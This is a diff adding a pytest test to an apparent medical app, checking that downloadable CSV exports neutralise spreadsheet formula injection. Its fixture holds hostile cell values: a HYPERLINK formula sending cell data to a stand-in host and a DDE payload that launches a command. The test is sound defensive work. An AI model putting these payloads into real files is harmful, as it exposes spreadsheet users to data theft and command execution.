@@ -96,3 +96,16 @@ def test_the_command_lines_audit_reads_as_the_admin_pages(tmp_path):
     assert len(same_day.stdout.splitlines()) == 3
     table = list(csv.DictReader(io.StringIO(run_medapp("audit", "--format", "csv", env=env).stdout)))
     assert table[0]["detail"] == "role: clinician → reviewer · active: active → disabled"
+
+
+def test_every_downloadable_csv_makes_formula_text_inert():
+    """A cohort's patient id '=HYPERLINK(...)' was written as typed into the results CSV (a security review)."""
+    import pandas as pd
+
+    from medapp.security.audit import spreadsheet_csv
+
+    table = pd.DataFrame({"id": ['=HYPERLINK("http://x"&C2,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "P-7"],
+                          "probability": [0.1, -0.2, 0.3, 0.4]})
+    lines = spreadsheet_csv(table).splitlines()
+    assert lines[1].startswith("\"'=HYPERLINK(") and lines[2].startswith("'+cmd") and lines[3].startswith("'@SUM")
+    assert lines[4] == "P-7,0.4" and lines[2].endswith(",-0.2")  # ordinary text and negative numbers untouched
